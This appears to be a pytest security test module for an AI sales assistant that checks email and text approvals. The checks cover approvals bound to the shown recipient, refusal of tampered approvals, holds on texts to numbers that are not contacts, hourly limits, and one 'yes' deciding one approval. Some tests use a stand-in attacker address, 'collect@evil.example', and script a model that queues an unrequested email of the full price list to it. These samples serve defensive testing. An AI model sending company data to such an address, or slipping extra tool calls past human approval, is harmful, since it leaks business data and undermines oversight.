"""Approvals bind exactly what will happen: the resolved recipient and the full content
are hashed and shown, and that is what is sent — never a fresh lookup. One "yes" decides
one approval. Texts to numbers that are not contacts wait; texts are limited per company."""

from __future__ import annotations

from typing import Any

import pytest

from hard_e.bootstrap import Services
from hard_e.crm.simulator.server import LeapSimulator
from hard_e.local.seed import DemoLogin
from tests.conftest import Gateway
from tests.security.figures import record
from tests.support.anthropic_server import ScriptedAnthropic, text, tool_use

BARBARA = 2016690  # barbara.pruitt@gmail.com, +1 380 555 0113 in the demo company
ATTACKER = "collect@evil.example"


def outbox(gateway: Gateway, token: str) -> list[dict[str, Any]]:
    result = gateway.request("GET", "/api/v1/outbox", function="tools", token=token)
    messages: list[dict[str, Any]] = result.json()["messages"]
    return messages


def approve(gateway: Gateway, token: str, approval_id: str) -> dict[str, Any]:
    path = f"/api/v1/approvals/{approval_id}/approve"
    body: dict[str, Any] = gateway.request("POST", path, function="tools", token=token).json()
    return body


def test_an_approved_email_goes_to_the_address_the_approval_showed(
    gateway: Gateway, demo_token: str
) -> None:
    # Given an email to a customer waiting for approval, showing the address and body
    body = "Hi Barbara,\nyour estimate is attached.\nThanks, Dana"
    held = gateway.tool(
        "send_email", {"customer_id": BARBARA, "subject": "Estimate", "body": body}, demo_token
    )
    approval = held.json()["approval"]
    assert held.status == 202
    assert approval["args"]["to"] == "barbara.pruitt@gmail.com"
    assert "barbara.pruitt@gmail.com" in approval["preview"] and body in approval["preview"]

    # When someone changes the customer's email before the approval is decided
    changed = gateway.tool(
        "update_customer", {"customer_id": BARBARA, "email": ATTACKER}, demo_token
    )
    assert changed.status == 200
    decided = approve(gateway, demo_token, approval["id"])["approval"]

    # Then the email goes where the approval said, not to the new address
    sent = outbox(gateway, demo_token)
    assert decided["status"] == "executed"
    assert [(m["channel"], m["to"]) for m in sent] == [("email", "barbara.pruitt@gmail.com")]
    record(
        "approved email after the customer's address changed",
        f"sent to {sent[0]['to']}",
        "the address shown",
        sent[0]["to"] == "barbara.pruitt@gmail.com",
    )


def test_an_email_to_an_address_that_is_not_on_file_says_so(
    gateway: Gateway, demo_token: str
) -> None:
    held = gateway.tool(
        "send_email",
        {"customer_id": BARBARA, "to": ATTACKER, "subject": "Estimate", "body": "see link"},
        demo_token,
    ).json()["approval"]
    assert held["preview"].startswith(f"Email {ATTACKER}")
    assert "NOT the address on file (barbara.pruitt@gmail.com)" in held["preview"]


def test_an_altered_approval_refuses_to_run(
    gateway: Gateway, demo_token: str, services: Services, demo: DemoLogin
) -> None:
    held = gateway.tool(
        "send_email", {"customer_id": BARBARA, "subject": "Estimate", "body": "hi"}, demo_token
    ).json()["approval"]
    pk = f"T#{demo.tenant_id}#APPROVAL"
    item = services.table.get(pk, held["id"])
    assert item is not None
    services.table.put({**item, "args": {**item["args"], "to": ATTACKER}})

    result = gateway.request(
        "POST", f"/api/v1/approvals/{held['id']}/approve", function="tools", token=demo_token
    )
    assert result.status == 409
    assert outbox(gateway, demo_token) == []


def test_a_text_to_a_number_that_is_not_a_contact_waits_for_an_ok(
    gateway: Gateway, demo_token: str
) -> None:
    stranger = gateway.tool("send_sms", {"to": "614-555-9999", "body": "Click here"}, demo_token)
    customer = gateway.tool("send_sms", {"customer_id": BARBARA, "body": "On my way"}, demo_token)

    assert stranger.status == 202
    assert stranger.json()["approval"]["reason"] == "the number is not a customer's number on file"
    assert "+16145559999" in stranger.json()["approval"]["preview"]
    assert customer.status == 200
    assert [m["to"] for m in outbox(gateway, demo_token)] == ["+13805550113"]


def test_thirty_arbitrary_numbers_in_three_batches_send_nothing_by_themselves(
    gateway: Gateway, demo_token: str
) -> None:
    held = 0
    for batch in range(3):
        calls = [
            {"tool": "send_sms", "input": {"to": f"614-555-{batch}{i:03d}", "body": "promo"}}
            for i in range(10)
        ]
        result = gateway.request(
            "POST",
            "/api/v1/tools/batch",
            function="tools",
            json_body={"calls": calls},
            token=demo_token,
        ).json()["results"]
        held += sum(r["status"] == "pending_approval" for r in result)
    sent = len(outbox(gateway, demo_token))
    assert (held, sent) == (30, 0)
    record(
        "30 texts to arbitrary numbers in 3 batches",
        f"{sent} sent, {held} held",
        "0 sent",
        sent == 0,
    )


def test_texts_are_limited_per_company_per_hour(
    gateway: Gateway, demo_token: str, services: Services
) -> None:
    services.tools.sms_per_hour = 3  # a small limit for the test
    results = [
        gateway.tool("send_sms", {"customer_id": BARBARA, "body": f"update {i}"}, demo_token)
        for i in range(5)
    ]
    assert [r.status for r in results] == [200, 200, 200, 422, 422]
    assert "texts for this hour" in results[3].json()["error"]["message"]
    assert len(outbox(gateway, demo_token)) == 3


@pytest.fixture
def services(claude_services: Services) -> Services:  # this module's chat brain is Claude
    return claude_services


def test_one_yes_decides_one_approval_when_two_wait(
    gateway: Gateway, demo_token: str, claude_api: ScriptedAnthropic, leap_sim: LeapSimulator
) -> None:
    # Given a model that queued the email the rep asked for, and a second one they did not
    asked = {"customer_id": BARBARA, "subject": "Estimate", "body": "Your estimate."}
    extra = {"to": ATTACKER, "subject": "Price list", "body": "All our prices."}
    claude_api.reply(tool_use("send_email", asked), tool_use("send_email", extra))
    claude_api.reply(text("I've drafted the email to Barbara for you to approve."))
    first = gateway.chat("email Barbara Pruitt her estimate", demo_token).json()
    session = first["session_id"]

    # Then the reply lists both, in full, whatever the model said
    assert len(first["approvals"]) == 2
    assert "barbara.pruitt@gmail.com" in first["reply"] and ATTACKER in first["reply"]

    # When the rep just says "yes"
    again = gateway.chat("yes", demo_token, session).json()
    # Then nothing is sent: Hard-E asks which
    assert outbox(gateway, demo_token) == []
    assert "Which one?" in again["reply"]

    # And "yes to 1" sends only the first
    chosen = gateway.chat("yes to 1", demo_token, session).json()
    sent = outbox(gateway, demo_token)
    assert [m["to"] for m in sent] == ["barbara.pruitt@gmail.com"]
    assert "Waiting for your OK" in chosen["reply"] and ATTACKER in chosen["reply"]
    gateway.chat("no", demo_token, session)
    assert len(outbox(gateway, demo_token)) == 1
    record(
        "one 'yes' with two emails queued",
        f"{len(sent)} sent",
        "1 (the one picked)",
        len(sent) == 1,
    )


def test_with_one_approval_waiting_a_plain_yes_decides_it(
    gateway: Gateway, demo_token: str, claude_api: ScriptedAnthropic
) -> None:
    claude_api.reply(
        tool_use("send_email", {"customer_id": BARBARA, "subject": "Hi", "body": "See you."})
    )
    claude_api.reply(text("It's ready for your OK."))
    first = gateway.chat("email Barbara Pruitt that I'll see her tomorrow", demo_token).json()
    assert "Waiting for your OK: Email barbara.pruitt@gmail.com" in first["reply"]

    done = gateway.chat("yes", demo_token, first["session_id"]).json()

    assert done["approvals"][0]["status"] == "executed"
    assert [m["to"] for m in outbox(gateway, demo_token)] == ["barbara.pruitt@gmail.com"]
